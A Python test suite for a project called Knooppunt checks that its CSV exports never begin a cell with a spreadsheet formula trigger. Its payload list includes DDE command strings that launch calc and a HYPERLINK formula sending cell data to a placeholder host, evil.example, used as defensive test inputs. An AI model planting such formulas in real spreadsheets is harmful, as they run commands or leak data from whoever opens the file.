"""CSV injection: no cell of any CSV Knooppunt writes starts with something a spreadsheet runs."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from knooppunt.csv_safe import FORMULA_TRIGGERS, csv_bytes, is_formula, phone_cell, read_cells, safe_cell
from knooppunt.directory import csv_io
from knooppunt.directory.validation import normalise_phone
from knooppunt.services.outcomes.agreements import AgreementFilter
from knooppunt.storage.mapping import storable

PAYLOADS = [
    "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/c calc'!A0", "-1+cmd|'/c calc'!A0", "-2+3", "+31 6 12345678", "\t=1+2", "\r=1+2", "'=1+2",
    "''@x", "\uff1d1+2", "=1+2\n=3", " =1+2",
]
_hostile = st.one_of(st.sampled_from(PAYLOADS),
                     st.tuples(st.sampled_from(sorted(FORMULA_TRIGGERS | {"'"})), st.text(max_size=20))
                     .map("".join),
                     st.text(max_size=30))
_SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def assert_no_formula(cells: list[list[str]]) -> None:
    for row in cells:
        for cell in row:
            # What a spreadsheet sees: an apostrophe in front makes the cell text.
            assert cell[:1] not in FORMULA_TRIGGERS, cell


@given(st.lists(st.lists(_hostile, min_size=1, max_size=5), max_size=5))
def test_the_helper_never_writes_a_formula_and_reading_back_keeps_the_text(rows):
    cells = read_cells(csv_bytes(rows))
    assert_no_formula(cells)
    # An import removes the one apostrophe that was added; everything else is as it was.
    restored = [[c[1:] if c[:1] == "'" and is_formula(c) else c for c in row] for row in cells]
    assert restored == rows


def test_phone_numbers_stay_dialable_text_and_come_back_on_import():
    assert phone_cell("+32 470 12 34 56") == "00 32 470 12 34 56"
    assert phone_cell("06 12345678") == "06 12345678"
    assert phone_cell("+1+cmd|'/c calc'!A0") == "'+1+cmd|'/c calc'!A0"
    assert normalise_phone(phone_cell("+32 470 12 34 56")) == "+32 470 12 34 56"


@_SETTINGS
@given(who=_hostile, what=_hostile, child=_hostile, outcome=_hostile)
def test_agreements_csv_never_writes_a_formula(demo_services, tmp_path, who, what, child, outcome):
    s = demo_services
    agreement = s.agreements.agreement(s.store.scalar("SELECT min(id) FROM agreement"))
    with s.store.unit_of_work() as uow:  # as if typed long ago or read from an old file
        uow.update("agreement", agreement.id, {"owner_name": who, "description": what, "outcome_note": outcome})
        uow.update("child", agreement.child_id, {"first_name": child})
        uow.audit("test", "agreement", agreement.id)
    path = tmp_path / "afspraken.csv"
    s.agreements.export_csv(AgreementFilter(bucket="alle"), path)
    cells = read_cells(path.read_bytes())
    assert_no_formula(cells)
    # Stored (on either backend) and so exported without the characters no backend keeps alike (NUL, …).
    kept = storable(what)
    assert any(("'" + kept if safe_cell(kept) != kept else kept) in row for row in cells)


@_SETTINGS
@given(role=_hostile, organisation=_hostile, note=_hostile, phone=_hostile)
def test_partners_csv_never_writes_a_formula(demo_services, tmp_path, role, organisation, note, phone):
    s = demo_services
    location = s.locations.locations()[0]
    view = next(v for v in s.locations.partners(location.id) if v.contact and v.organisation)
    with s.store.unit_of_work() as uow:
        uow.update("location_partner", view.partner.id, {"role": role, "mandate_description": note})
        uow.update("organisation", view.organisation.id, {"phone": phone, "address": organisation})
        uow.update("contact_person", view.contact.id, {"note": note, "phone": phone})
        uow.audit("test", "location_partner", view.partner.id)
    path = tmp_path / "partners.csv"
    s.directory.export(location.id, path, "csv")
    cells = read_cells(path.read_bytes())
    assert_no_formula(cells)
    assert len(cells) == len(s.locations.partners(location.id)) + 1


def test_partners_csv_with_a_foreign_phone_opens_as_text_and_round_trips(demo_services, tmp_path):
    s = demo_services
    location = s.locations.locations()[0]
    view = next(v for v in s.locations.partners(location.id) if v.contact)
    with s.store.unit_of_work() as uow:
        uow.update("contact_person", view.contact.id, {"phone": "+32 470 12 34 56"})
        uow.audit("test", "contact_person", view.contact.id)
    path = tmp_path / "partners.csv"
    s.directory.export(location.id, path, "csv")
    assert "00 32 470 12 34 56" in path.read_text(encoding="utf-8-sig")
    data = csv_io.parse_csv(path.read_bytes())
    assert any(p.contact and p.contact.phone == "+32 470 12 34 56" for p in data.partners)
    assert s.directory.plan_import(location.name, data).changes == ()
